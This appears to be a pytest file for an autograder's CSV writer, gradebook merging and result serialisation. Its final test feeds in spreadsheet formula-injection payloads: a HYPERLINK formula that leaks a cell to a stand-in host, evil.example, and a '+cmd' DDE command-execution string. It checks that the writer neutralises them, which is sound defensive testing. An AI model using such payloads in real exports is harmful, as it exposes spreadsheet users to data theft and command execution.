"""autograder.writer and autograder.results: the CSV rows, the gradebook merge, the result round trip."""

import csv
import sqlite3

from autograder import writer
from autograder.results import CellResult, Flag, SubmissionResult

RESULTS = [
    SubmissionResult(
        "ada",
        "a1",
        "graded",
        7.0,
        8.0,
        [CellResult("test_f", 2.0, 2.0), CellResult("test_g", 0.5, 1.0, "f(2) is 5, expected 4, see 'x'")],
        [Flag("network", "student code opens network connections")],
    ),
    SubmissionResult("bob", "a1", "not_submitted", 0.0, 8.0, message="no submission"),
    SubmissionResult("bob", "zz", "unknown_assignment", flags=[Flag("unknown_assignment", "folder zz/")]),
]


def rows(path):
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_csvs(tmp_path):
    writer.write_csvs(RESULTS, tmp_path)
    assert rows(tmp_path / "grades.csv") == [
        ["student_id", "assignment", "score", "max_score"],
        ["ada", "a1", "7", "8"],
        ["bob", "a1", "0", "8"],
    ]
    assert rows(tmp_path / "cells.csv")[1:] == [
        ["ada", "a1", "test_f", "2", "2", "", ""],
        ["ada", "a1", "test_g", "0.5", "1", "f(2) is 5, expected 4, see 'x'", ""],
    ]
    assert rows(tmp_path / "integrity.csv")[1:] == [
        ["ada", "a1", "network", "student code opens network connections"],
        ["bob", "zz", "unknown_assignment", "folder zz/"],
    ]


def test_cells_csv_keeps_each_concept_answer(tmp_path):
    record = {"answer": "c", "bucket": "c", "correct": False, "explanation": "why c fails", "options": ["a", "c"]}
    results = [
        SubmissionResult(
            "ada",
            "a1",
            "graded",
            0.0,
            1.0,
            [CellResult("test_concept_x", 0.0, 1.0, "Not this one (c): why c fails", "test", record)],
        )
    ]
    writer.write_csvs(results, tmp_path)
    assert rows(tmp_path / "cells.csv")[1] == [
        "ada",
        "a1",
        "test_concept_x",
        "0",
        "1",
        "Not this one (c): why c fails",
        "c",
    ]
    assert SubmissionResult.from_json(results[0].to_json()) == results[0]


def test_numbers_are_written_short():
    assert [writer._num(x) for x in (3.0, 0.25, 2 / 3)] == ["3", "0.25", "0.6667"]


def make_db(path, assignment_rows, grade_rows):
    con = sqlite3.connect(path)
    con.execute("CREATE TABLE assignment (id TEXT PRIMARY KEY, name TEXT)")
    con.execute("CREATE TABLE grade (id TEXT PRIMARY KEY, score REAL)")
    con.executemany("INSERT INTO assignment VALUES (?, ?)", assignment_rows)
    con.executemany("INSERT INTO grade VALUES (?, ?)", grade_rows)
    con.commit()
    con.close()


def test_gradebooks_merge_without_duplicating_shared_rows(tmp_path):
    template = tmp_path / "template.db"
    make_db(template, [("A1", "a1")], [])
    jobs = []
    for i in range(3):
        jobs.append(tmp_path / f"job{i}.db")
        make_db(jobs[-1], [("A1", "a1")], [(f"g{i}", float(i))])
    target = tmp_path / "merged.db"
    target.write_text("stale")
    writer.merge_gradebooks(target, [template, *jobs])
    con = sqlite3.connect(target)
    assert con.execute("SELECT count(*) FROM assignment").fetchone() == (1,)
    assert sorted(con.execute("SELECT id, score FROM grade")) == [("g0", 0.0), ("g1", 1.0), ("g2", 2.0)]
    con.close()


def test_no_parts_no_gradebook(tmp_path):
    (tmp_path / "g.db").write_text("old")
    writer.merge_gradebooks(tmp_path / "g.db", [])
    assert not (tmp_path / "g.db").exists()


def test_stale_job_results_and_old_template_folders_are_dropped(tmp_path):
    jobs = tmp_path / ".cache" / "jobs"
    for name in ("keep", "stale"):
        (jobs / name).mkdir(parents=True)
    (tmp_path / ".cache" / "templates" / "a1-old").mkdir(parents=True)
    writer._drop_stale_jobs(jobs, {jobs / "keep"})
    assert [p.name for p in jobs.iterdir()] == ["keep"]
    assert not (tmp_path / ".cache" / "templates").exists()


def test_results_round_trip_through_json():
    for result in RESULTS:
        assert SubmissionResult.from_json(result.to_json()) == result


def test_no_csv_cell_starts_a_spreadsheet_formula(tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    results = [
        SubmissionResult(
            "-cy",
            "a1",
            "graded",
            1.0,
            2.0,
            [CellResult("test_f", 1.0, 2.0, hostile), CellResult("test_g", 0.0, 0.0, "@SUM(A1)")],
            [Flag("edited_metadata", "+cmd|' /C calc'!A0")],
        )
    ]
    writer.write_csvs(results, tmp_path)
    for name in ("grades.csv", "cells.csv", "integrity.csv"):
        for row in rows(tmp_path / name)[1:]:
            assert not any(v.lstrip().startswith(("=", "+", "@")) for v in row), (name, row)
    assert rows(tmp_path / "cells.csv")[1][-2] == "'" + hostile  # still readable, as text
    assert writer.spreadsheet_safe("-0.5") == "-0.5"
